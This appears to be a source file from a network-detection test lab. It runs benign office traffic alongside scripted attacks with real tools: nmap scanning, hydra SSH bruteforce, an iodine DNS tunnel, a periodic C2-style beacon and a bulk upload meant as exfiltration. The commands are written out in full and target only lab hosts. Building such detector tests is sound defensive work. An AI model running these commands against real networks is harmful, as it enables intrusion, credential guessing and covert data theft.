// What happens on the office LAN: benign activity and the attacks, each with real tools from
// Debian's packages run inside an office host's namespace, each bounded in time. Every attack
// names the investigation it should open (detector, source, destination), which the summary
// compares against what detection found.

import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { Prng } from '../collector/flowgen/prng.js';
import { type Cleanup, sleep, startDaemon, waitForOutput } from './proc.js';
import { FILE_SERVER, type LabFiles, TUNNEL } from './services.js';
import { INTERNET, type Namespaces, OFFICE_HOSTS, OFFICE_SUBNET } from './topology.js';

export const ATTACKS = ['scan', 'bruteforce', 'dns-tunnel', 'beacon', 'exfil'] as const;
export type Attack = (typeof ATTACKS)[number];
export type ScenarioName = Attack | 'benign';
export const SCENARIO_NAMES: readonly ScenarioName[] = ['benign', ...ATTACKS];

/**
 * What a run plays, beyond which scenarios: the host each attack plays from, when it starts, and
 * the knobs the detectors are sensitive to. `DEFAULT_PLAN` is the lab's fixed run; `randomPlan`
 * varies every knob within what the lab's detectors are built to find (bench:detect -- --lab).
 */
export interface LabPlan {
  /** The office workstation each attack plays from. */
  attackers: Record<Attack, string>;
  /** Seconds each attack waits before it starts. */
  startDelaySecs: Record<Attack, number>;
  /** The implant's sessions, their mean gap and its jitter (± share, uniform). */
  beacon: { sessions: number; gapMs: number; jitter: number };
  /** nmap's --top-ports. */
  scanPorts: number;
  /** Bytes uploaded by the exfiltration, and through the DNS tunnel. */
  exfilBytes: number;
  tunnelBytes: number;
}

export const WORKSTATIONS = OFFICE_HOSTS.filter((h) => h.role === 'workstation').map((h) => h.name);

export const DEFAULT_PLAN: LabPlan = {
  attackers: { scan: 'ws3', bruteforce: 'ws2', 'dns-tunnel': 'ws4', beacon: 'ws1', exfil: 'ws2' },
  startDelaySecs: { scan: 0, bruteforce: 0, 'dns-tunnel': 0, beacon: 0, exfil: 0 },
  beacon: { sessions: 13, gapMs: 11_000, jitter: 0.2 },
  scanPorts: 100,
  exfilBytes: 240 * 1024 * 1024,
  tunnelBytes: 400 * 1024,
};

/**
 * A plan drawn from `random`: any workstation for each attack, starts spread over 20 s, a beacon
 * of 13–15 sessions 10.5–13 s apart with 0–20 % jitter (the detector wants ≥ 12 sessions, a
 * median gap ≥ 10 s and a gap CV ≤ 0.25; ±20 % uniform is a CV of 0.12), nmap's top 60–200
 * ports, 210–300 MiB exfiltrated (the detector's bound is 200 MiB) and 300–500 KiB through the
 * tunnel (~1,600–2,800 questions; the bound is 200).
 */
export function randomPlan(random: () => number): LabPlan {
  const pick = <T>(items: readonly T[]) => items[Math.floor(random() * items.length)];
  const within = (min: number, max: number) => min + (max - min) * random();
  const attackers = Object.fromEntries(ATTACKS.map((a) => [a, pick(WORKSTATIONS)])) as Record<Attack, string>;
  const startDelaySecs = Object.fromEntries(ATTACKS.map((a) => [a, Math.round(within(0, 20))])) as Record<Attack, number>;
  return {
    attackers,
    startDelaySecs,
    beacon: { sessions: 13 + Math.floor(random() * 3), gapMs: Math.round(within(10_500, 13_000)), jitter: Math.round(within(0, 0.2) * 100) / 100 },
    scanPorts: Math.round(within(60, 200)),
    exfilBytes: Math.round(within(210, 300)) * 1024 * 1024,
    tunnelBytes: Math.round(within(300, 500)) * 1024,
  };
}

/** The random plan of a seed: its own stream, apart from the benign choices and the jitter. */
export const randomPlanOf = (seed: number): LabPlan => {
  const prng = Prng.from(seed).fork('plan');
  return randomPlan(() => prng.next());
};

export interface Expected {
  detector: Attack;
  sourceHost: string;
  source: string;
  destination: string;
}

export interface ScenarioContext {
  names: Namespaces;
  files: LabFiles;
  cleanup: Cleanup;
  /** Runs a command on an office host, bounded; the result is logged, never thrown. */
  on(host: string, argv: string[], timeoutMs: number): Promise<{ code: number | null; stdout: string; stderr: string }>;
  log(line: string): void;
  random(): number;
  plan: LabPlan;
}

interface Scenario {
  name: ScenarioName;
  /** The investigation an attack should open (detector, destination); none for benign activity. */
  opens?: { detector: Attack; destination: string };
  play(ctx: ScenarioContext): Promise<void>;
}

const host = (name: string) => OFFICE_HOSTS.find((h) => h.name === name)!;
const curl = (files: LabFiles, url: string, ...extra: string[]) => [
  'curl',
  '-sS',
  '--max-time',
  '60',
  '--cacert',
  files.caCert,
  '-o',
  '/dev/null',
  ...extra,
  url,
];
const between = (ctx: ScenarioContext, min: number, max: number) => min + (max - min) * ctx.random();

/**
 * The office's uplink for bulk transfers (curl --limit-rate, bytes/s). At veth speed (~60 MB/s of
 * 64 KiB segments) the live meter fell behind and the kernel dropped a third of the capture
 * (15,495 of 47,236 packets), losing the exfil upload; at 20 MiB/s it still dropped 3–15% on the
 * loaded 2-core machine, once a beacon check-in (the detector now tolerates a few missed beats).
 * tc netem would be the place to shape the link, but kernels without sch_netem (this machine's)
 * have none.
 */
const UPLINK_RATE = '8M';

/**
 * hydra (libssh) tries about 4.5 passwords per ssh connection (sshd's MaxAuthTries is 6), and the
 * detector counts connections: measured here, 16 tasks made ~16 connections a minute and 32 tasks
 * ~65 (sshd's MaxStartups refuses some, which count too). 480 guesses with 32 tasks make ~130
 * connections in two minutes, above the detector's 100.
 */
const HYDRA_PASSWORDS = 480;
const HYDRA_TASKS = 32;
/** Through the tunnel (LabPlan.tunnelBytes): ~1,100 questions per 200 KB measured here (iodine 0.7, NULL records, Base128). */
const TUNNELED_SITE = INTERNET.sites[2];
const TUNNEL_PINGS = 20;

const SCENARIOS: Scenario[] = [
  {
    name: 'benign',
    async play(ctx) {
      // Every workstation browses the sites (irregular gaps, few visits each), resolves names, and
      // the admin looks at the file server over ssh; ws3 downloads a large file.
      const browse = OFFICE_HOSTS.filter((h) => h.role === 'workstation').map(async (ws) => {
        for (let visit = 0; visit < 5; visit++) {
          await sleep(between(ctx, 2_000, 15_000));
          const site = INTERNET.sites[Math.floor(ctx.random() * INTERNET.sites.length)];
          await ctx.on(ws.name, ['dig', '+short', site.name], 10_000);
          await ctx.on(ws.name, curl(ctx.files, `https://${site.name}/`), 60_000);
        }
      });
      const admin = ctx.on(
        'ws1',
        [
          'ssh',
          '-i',
          ctx.files.sshKey,
          '-o',
          'BatchMode=yes',
          '-o',
          'StrictHostKeyChecking=no',
          '-o',
          'UserKnownHostsFile=/dev/null',
          `root@${FILE_SERVER.ip}`,
          'uname -a; uptime; df -h /; ls -la /etc | head -50; sleep 5',
        ],
        60_000,
      );
      const download = ctx.on('ws3', curl(ctx.files, `https://${INTERNET.mirror.name}/bytes/${100 * 1024 * 1024}`, '--limit-rate', UPLINK_RATE), 120_000);
      await Promise.all([...browse, admin, download]);
    },
  },
  {
    name: 'scan',
    opens: { detector: 'scan', destination: OFFICE_SUBNET },
    async play(ctx) {
      await ctx.on(ctx.plan.attackers.scan, ['nmap', '-sS', '-T4', '-n', '--top-ports', String(ctx.plan.scanPorts), OFFICE_SUBNET], 120_000);
    },
  },
  {
    name: 'bruteforce',
    opens: { detector: 'bruteforce', destination: FILE_SERVER.ip },
    async play(ctx) {
      const words = join(ctx.files.dir, 'passwords.txt');
      writeFileSync(words, Array.from({ length: HYDRA_PASSWORDS }, (_, i) => `guess${i}`).join('\n') + '\n');
      // -I: no restore file from an earlier run; hydra writes it to its working directory.
      await ctx.on(
        ctx.plan.attackers.bruteforce,
        ['sh', '-c', `cd ${ctx.files.dir} && exec hydra -I -l admin -P ${words} -t ${HYDRA_TASKS} ssh://${FILE_SERVER.ip}`],
        150_000,
      );
    },
  },
  {
    name: 'dns-tunnel',
    opens: { detector: 'dns-tunnel', destination: 'lab.example' },
    async play(ctx) {
      const ws = ctx.plan.attackers['dns-tunnel'];
      // -r: only through the resolver (no raw UDP straight to iodined), as a tunnel out of an
      // office whose only way out is its DNS server would go.
      const iodine = ctx.cleanup.daemon(
        startDaemon('iodine', ['iodine', '-f', '-r', '-P', TUNNEL.password, INTERNET.dns.ip, INTERNET.tunnelDomain], {
          ns: ctx.names.hosts[ws],
          logFile: join(ctx.files.dir, 'iodine.log'),
        }),
      );
      try {
        await waitForOutput(iodine, /Connection setup complete/, 60_000);
        // The tunnel carries what a tunnel is for: a file sent to a site reached through it
        // (a host route on that workstation only), then a while of pings.
        await ctx.on(ws, ['ip', 'route', 'add', `${TUNNELED_SITE.ip}/32`, 'via', TUNNEL.serverIp], 10_000);
        await ctx.on(
          ws,
          ['sh', '-c', `head -c ${ctx.plan.tunnelBytes} /dev/urandom | curl -sS --max-time 60 -o /dev/null -T - http://${TUNNELED_SITE.ip}/upload`],
          70_000,
        );
        await ctx.on(ws, ['ping', '-q', '-c', String(TUNNEL_PINGS), '-i', '0.5', '-s', '400', TUNNEL.serverIp], TUNNEL_PINGS * 1_000 + 30_000);
      } catch (error) {
        ctx.log(`dns-tunnel: ${(error as Error).message}`);
      } finally {
        await iodine.stop();
      }
    },
  },
  {
    name: 'beacon',
    opens: { detector: 'beacon', destination: INTERNET.c2.organization },
    async play(ctx) {
      const { sessions, gapMs, jitter } = ctx.plan.beacon;
      const ws = ctx.plan.attackers.beacon;
      for (let i = 0; i < sessions; i++) {
        if (i > 0) await sleep(gapMs * (1 + jitter * (2 * ctx.random() - 1)));
        await ctx.on(ws, curl(ctx.files, `https://${INTERNET.c2.name}/api/v2/poll?id=${ws}`, '-d', `seq=${i}`), 30_000);
      }
    },
  },
  {
    name: 'exfil',
    opens: { detector: 'exfil', destination: INTERNET.drop.organization },
    async play(ctx) {
      await ctx.on(
        ctx.plan.attackers.exfil,
        [
          'sh',
          '-c',
          `head -c ${ctx.plan.exfilBytes} /dev/urandom | ${curl(ctx.files, `https://${INTERNET.drop.name}/upload`, '-T', '-', '--limit-rate', UPLINK_RATE).join(' ')}`,
        ],
        240_000,
      );
    },
  },
];

const scenario = (name: ScenarioName): Scenario => SCENARIOS.find((s) => s.name === name)!;

/** The investigations the chosen scenarios should open under `plan`: one per attack. */
export function expectedInvestigations(chosen: readonly ScenarioName[], plan: LabPlan): Expected[] {
  return chosen.flatMap((name) => {
    const opens = scenario(name).opens;
    if (!opens) return [];
    const sourceHost = plan.attackers[opens.detector];
    return [{ ...opens, sourceHost, source: host(sourceHost).ip }];
  });
}

/** Plays the chosen scenarios at once (each attack after its planned delay). */
export async function playScenarios(chosen: readonly ScenarioName[], ctx: ScenarioContext): Promise<void> {
  await Promise.all(
    chosen.map(async (name) => {
      const delaySecs = name === 'benign' ? 0 : ctx.plan.startDelaySecs[name];
      if (delaySecs > 0) await sleep(delaySecs * 1_000);
      const started = Date.now();
      ctx.log(`${name}: started${name === 'benign' ? '' : ` on ${ctx.plan.attackers[name]}`}`);
      await scenario(name).play(ctx);
      ctx.log(`${name}: done in ${((Date.now() - started) / 1000).toFixed(1)} s`);
    }),
  );
}
